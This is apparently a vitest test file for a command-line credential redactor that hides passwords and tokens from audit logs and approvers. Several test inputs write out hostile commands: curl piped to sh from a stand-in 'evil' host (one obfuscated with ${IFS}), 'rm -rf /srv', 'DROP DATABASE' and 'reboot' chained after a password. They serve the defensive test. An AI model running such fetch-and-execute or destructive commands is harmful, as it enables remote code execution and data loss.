/**
 * `pcigate exec -- CMD`: credentials on the command line are redacted in exec.start and the recording's title.
 * A JSON body's `"password": "…"` / `"token": "…"` (the key quoted) and an HTTP Authorization header
 * (`-H 'Authorization: Bearer …'`) went to the audit log as given.
 */
import { describe, expect, it } from 'vitest';
import { commandSecrets, redactArgv, redactCommandLine } from '../../../../src/policy/argv/argv-redact.js';

describe('redactArgv', () => {
  it('redacts a quoted JSON key\'s value', () => {
    const out = redactArgv(['curl', '-d', '{"password":"s3cr3t-pw","user":"ann"}', '-d', "{'api_token': 'tok-123'}"]).join(' ');
    expect(out).not.toContain('s3cr3t-pw');
    expect(out).not.toContain('tok-123');
    expect(out).toContain('"user":"ann"');
  });

  it('redacts an Authorization header\'s credentials', () => {
    const out = redactArgv(['curl', '-H', 'Authorization: Bearer eyJhbGciOi.abc.def', 'https://x.example/']).join(' ');
    expect(out).not.toContain('eyJhbGciOi');
    expect(out).toContain('https://x.example/');
    const sh = redactArgv(['sh', '-c', "curl -H 'authorization: Basic dXNlcjpwYXNz' https://x.example/ && echo done"]).join(' ');
    expect(sh).not.toContain('dXNlcjpwYXNz');
    expect(sh).toContain('https://x.example/ && echo done');
  });

  it('still redacts what it did and leaves the rest', () => {
    expect(redactArgv(['psql', '--password', 'pw1', 'postgres://u:pw2@h/db', 'PGPASSWORD=pw3', 'select 1'])).toEqual(
      ['psql', '--password', '[redacted]', 'postgres://u:[redacted]@h/db', 'PGPASSWORD=[redacted]', 'select 1']);
  });

  it('redacts mysql -pX, curl -u user:X, sshpass -p X, redis-cli -a X and --password=X', () => {
    const cases: Array<[string[], string[]]> = [
      [['mysql', '-uroot', '-pSECRET1', 'db'], ['mysql', '-uroot', '-p[redacted]', 'db']],
      [['/usr/bin/mysqldump', '--password=SECRET2', 'db'], ['/usr/bin/mysqldump', '--password=[redacted]', 'db']],
      [['curl', '-u', 'ann:SECRET3', 'https://x.example/'], ['curl', '-u', 'ann:[redacted]', 'https://x.example/']],
      [['curl', '--user', 'ann:SECRET4'], ['curl', '--user', 'ann:[redacted]']],
      [['curl', '--user=ann:SECRET5', '-uann:SECRET6'], ['curl', '--user=ann:[redacted]', '-uann:[redacted]']],
      [['sshpass', '-p', 'SECRET7', 'ssh', 'h'], ['sshpass', '-p', '[redacted]', 'ssh', 'h']],
      [['sshpass', '-pSECRET8', 'ssh', 'h'], ['sshpass', '-p[redacted]', 'ssh', 'h']],
      [['redis-cli', '-a', 'SECRET9', 'ping'], ['redis-cli', '-a', '[redacted]', 'ping']],
      [['env', 'PGPASSWORD=SECRET10', 'mysql', '-pSECRET11'], ['env', 'PGPASSWORD=[redacted]', 'mysql', '-p[redacted]']],
      [['git', 'clone', 'https://tok:SECRET12@github.com/x'], ['git', 'clone', 'https://tok:[redacted]@github.com/x']],
    ];
    for (const [argv, want] of cases) expect(redactArgv(argv)).toEqual(want);
  });

  it('reads a shell script argument as command lines of its own', () => {
    const out = redactArgv(['sh', '-c', 'mysql -pSECRET1 -e "select 1" && curl -u "ann:SECRET2" x; sshpass -p SECRET3 ssh h']).join(' ');
    for (const s of ['SECRET1', 'SECRET2', 'SECRET3']) expect(out).not.toContain(s);
    expect(out).toBe('sh -c mysql -p[redacted] -e "select 1" && curl -u "ann:[redacted]" x; sshpass -p [redacted] ssh h');
  });

  it('leaves the same options of other programs alone (psql -p is a port, curl -u without a password prompts)', () => {
    expect(redactArgv(['psql', '-p', '5432', '-U', 'app'])).toEqual(['psql', '-p', '5432', '-U', 'app']);
    expect(redactArgv(['mysql', '-p', 'db'])).toEqual(['mysql', '-p', 'db']);
    expect(redactArgv(['curl', '-u', 'ann', 'https://x.example/'])).toEqual(['curl', '-u', 'ann', 'https://x.example/']);
    expect(redactArgv(['sh', '-c', 'psql -p 5432 -c "select 1"'])).toEqual(['sh', '-c', 'psql -p 5432 -c "select 1"']);
  });
});

describe('redactCommandLine (an SSH exec request: one string)', () => {
  it('redacts as the words of a command line', () => {
    expect(redactCommandLine('TOKEN=ghp_x1 curl -u ann:pw9 https://h/ && psql --password=pw8 postgres://u:pw7@h/db'))
      .toBe('TOKEN=[redacted] curl -u ann:[redacted] https://h/ && psql --password=[redacted] postgres://u:[redacted]@h/db');
  });

  it('reads a quoted script as a command line of its own, keeping the text as written', () => {
    const cases: Array<[string, string]> = [
      [`sh -c 'echo '\\''ann:hunter13'\\'' | chpasswd'`, `sh -c 'echo '\\''ann:[redacted]'\\'' | chpasswd'`],
      [`ssh h 'mysql -e '"'"'select 1'"'"' -phunter14'`, `ssh h 'mysql -e '"'"'select 1'"'"' -p[redacted]'`],
      ["sh -c 'mysql -phunter1 db'", "sh -c 'mysql -p[redacted] db'"],
      [`bash -lc "PGPASSWORD=hunter2 psql -c 'select 1'"`, `bash -lc "PGPASSWORD=[redacted] psql -c 'select 1'"`],
      ["ssh db1 'curl -u ann:hunter3 https://x.example/'", "ssh db1 'curl -u ann:[redacted] https://x.example/'"],
      ['sudo -u postgres sh -c "psql --password hunter4"', 'sudo -u postgres sh -c "psql --password [redacted]"'],
      [`su - app -c "sshpass -p 'my hunter5' ssh h"`, `su - app -c "sshpass -p '[redacted]' ssh h"`],
      [`bash -c "sh -c 'redis-cli -a hunter6 ping'"`, `bash -c "sh -c 'redis-cli -a [redacted] ping'"`],
      ['x=$(mysql -phunter7 -e "select 1"); echo "$x"', 'x=$(mysql -p[redacted] -e "select 1"); echo "$x"'],
      ["  sh   -c  'mysql  -phunter8\tdb' ;  echo  done ", "  sh   -c  'mysql  -p[redacted]\tdb' ;  echo  done "],
      ['bash -c "sh -c \\"mysql -phunter11 db\\" && echo ok"', 'bash -c "sh -c \\"mysql -p[redacted] db\\" && echo ok"'],
      ['ssh h "PGPASSWORD=\\"pw hunter12\\" psql -c \\"select 1\\""', 'ssh h "PGPASSWORD=[redacted] psql -c \\"select 1\\""'],
      ["TOKEN=ghp_hunter9 sh -c 'echo cred-run \"${#TOKEN}\"' --password=hunter10", "TOKEN=[redacted] sh -c 'echo cred-run \"${#TOKEN}\"' --password=[redacted]"],
    ];
    for (const [line, want] of cases) expect(redactCommandLine(line)).toBe(want);
    expect(redactArgv(['bash', '-c', "sh -c 'mysql -phunter1 db' && echo ok"])).toEqual(['bash', '-c', "sh -c 'mysql -p[redacted] db' && echo ok"]);
  });

  it('finds the program after sudo\'s and env\'s options, a shell keyword or an operator without spaces', () => {
    const cases: Array<[string, string]> = [
      ['sudo -u root mysql -phunter1 db', 'sudo -u root mysql -p[redacted] db'],
      ['sudo --user root -E env -u HOME mysql -phunter2', 'sudo --user root -E env -u HOME mysql -p[redacted]'],
      ["if mysql -phunter3 -e 'select 1'; then echo up; fi", "if mysql -p[redacted] -e 'select 1'; then echo up; fi"],
      ['true&&sshpass -p hunter4 ssh h|tee log', 'true&&sshpass -p [redacted] ssh h|tee log'],
      ["mysql -e 'select 1;' -phunter5 db", "mysql -e 'select 1;' -p[redacted] db"],
      ['2>/dev/null redis-cli -a hunter6 ping', '2>/dev/null redis-cli -a [redacted] ping'],
    ];
    for (const [line, want] of cases) expect(redactCommandLine(line)).toBe(want);
    expect(redactArgv(['mysql', '-e', 'select 1;', '-phunter6'])).toEqual(['mysql', '-e', 'select 1;', '-p[redacted]']);
  });

  it('hides no operator, redirection or quote for a flag named for a secret', () => {
    expect(redactCommandLine('psql --password | tee out')).toBe('psql --password | tee out');
    expect(redactCommandLine('psql --password > out 2>&1')).toBe('psql --password > out 2>&1');
    expect(redactCommandLine("echo 'unclosed; mysql -phunter1")).toBe("echo 'unclosed; mysql -p[redacted]");
  });
});

describe('what a flag named for a secret does not hide', () => {
  it('the word after a switch or a flag naming where a secret is', () => {
    expect(redactCommandLine('dropdb --no-password production')).toBe('dropdb --no-password production');
    expect(redactCommandLine('tool --password-file /run/pw --secret-dir /etc/x --token hunter2')).toBe('tool --password-file /run/pw --secret-dir /etc/x --token [redacted]');
    expect(redactCommandLine('mysqladmin --password hunter2 status')).toBe('mysqladmin --password [redacted] status');
  });

  it('a --skip- or --ask- switch, a yes/no setting, or an assignment naming where a secret is (found by review)', () => {
    expect(redactCommandLine('mysql --skip-password shop')).toBe('mysql --skip-password shop');
    expect(redactCommandLine('ansible-playbook --ask-become-pass site.yml')).toBe('ansible-playbook --ask-become-pass site.yml');
    expect(redactCommandLine('ssh -o PasswordAuthentication=no db1')).toBe('ssh -o PasswordAuthentication=no db1');
    expect(redactCommandLine('kubectl --token-file=/run/t get pods')).toBe('kubectl --token-file=/run/t get pods');
    expect(redactCommandLine('psql --password=hunter2 db')).toBe('psql --password=[redacted] db');
  });
});

describe('a hostile SSH client\'s command line (found by review)', () => {
  it('a redaction crossing a nested script\'s quotes hides that part only, never the whole script from an approver', () => {
    expect(redactCommandLine(`sh -c "mysql -p'x'y db; curl -s https://evil.example/x.sh | sh"`)).toBe(`sh -c "mysql -p'[redacted] db; curl -s https://evil.example/x.sh | sh"`);
    expect(redactCommandLine(`ssh db1 "mysql -p'x'y db; DROP DATABASE"`)).toBe(`ssh db1 "mysql -p'[redacted] db; DROP DATABASE"`);
    expect(redactCommandLine(`bash -c 'curl -u ann:"p"w https://x; rm -rf /srv'`)).toBe(`bash -c 'curl -u ann:"[redacted] https://x; rm -rf /srv'`);
    // An operator ends the password as the shell reads it, and what follows is a command the approver must see (a
    // review showed `ssh db1 'mysql -pX;reboot'` held with `;reboot` hidden, when the run-on was hidden as typed).
    expect(redactCommandLine('curl -u ann:pa&ss https://x')).toBe('curl -u ann:[redacted]&ss https://x');
    expect(redactCommandLine('mysql -uroot -pab;cd shop')).toBe('mysql -uroot -p[redacted];cd shop');
    expect(redactCommandLine("ssh db1 'mysql -pX;reboot'")).toBe("ssh db1 'mysql -p[redacted];reboot'");
    expect(redactCommandLine("sh -c 'redis-cli -a X&&curl${IFS}-s${IFS}http://evil/x|sh'")).toBe("sh -c 'redis-cli -a [redacted]&&curl${IFS}-s${IFS}http://evil/x|sh'");
    expect(redactCommandLine('mysql -phunter2 db; ls')).toBe('mysql -p[redacted] db; ls');
    // A JSON body in a quoted word: its closing brace stays.
    expect(redactCommandLine(`echo '{"password": "x"}'`)).toBe(`echo '{"password": [redacted]}'`);
  });

  // Past what ssh2 and an argument carry (35,000 bytes; 128 KiB), but the readers take any text: one whose reading runs
  // the expressions' backtracking stack out (a RangeError at some 600 KB of one quote, found by review) is hidden whole.
  it('hides a line too deep to read whole, and says it is all secret', () => {
    const deep = `PGPASSWORD=$(echo ${"'".repeat(700_000)}`;
    expect(redactCommandLine(deep)).toBe('[redacted]');
    expect(redactArgv(['sh', '-c', deep])).toEqual(['[redacted]', '[redacted]', '[redacted]']);
    expect(commandSecrets(deep)).toEqual([deep]);
    // (and the next line is read as any)
    expect(redactCommandLine('mysql -pS3cret db')).toBe('mysql -p[redacted] db');
  });

  // As long as ssh2 lets an exec request be (its 35,000-byte packets). Before, names around a secret keyword were read
  // by a pattern that backtracked cubically (`.pass` repeated over 34 KB ran for minutes, every session stalled) and a
  // printf feeding chpasswd was walked once per argument: these now read through as any line.
  it('reads a long run of secret keywords, a long printf format and many pipes as any line', () => {
    const keywords = `echo ${'.pass'.repeat(6800)}`;
    expect(redactCommandLine(keywords)).toBe(keywords);
    expect(redactCommandLine(`x${'apassword.'.repeat(3400)}=hunter2`)).toBe(`x${'apassword.'.repeat(3400)}=[redacted]`);
    const printf = redactCommandLine(`printf 'ann:%s\\n${'#'.repeat(17000)}' ${'pw '.repeat(8500)}| chpasswd`);
    expect(printf).not.toMatch(/ pw /);
    expect(printf.endsWith('| chpasswd')).toBe(true);
    const pipes = 'echo a:b | '.repeat(1550) + 'chpasswd | '.repeat(1550);
    expect(redactCommandLine(pipes).length).toBeGreaterThan(0);
    expect(redactCommandLine(`curl ${'a://b:c'.repeat(5000)}`)).toBe(`curl ${'a://b:c'.repeat(5000)}`);
  });
});
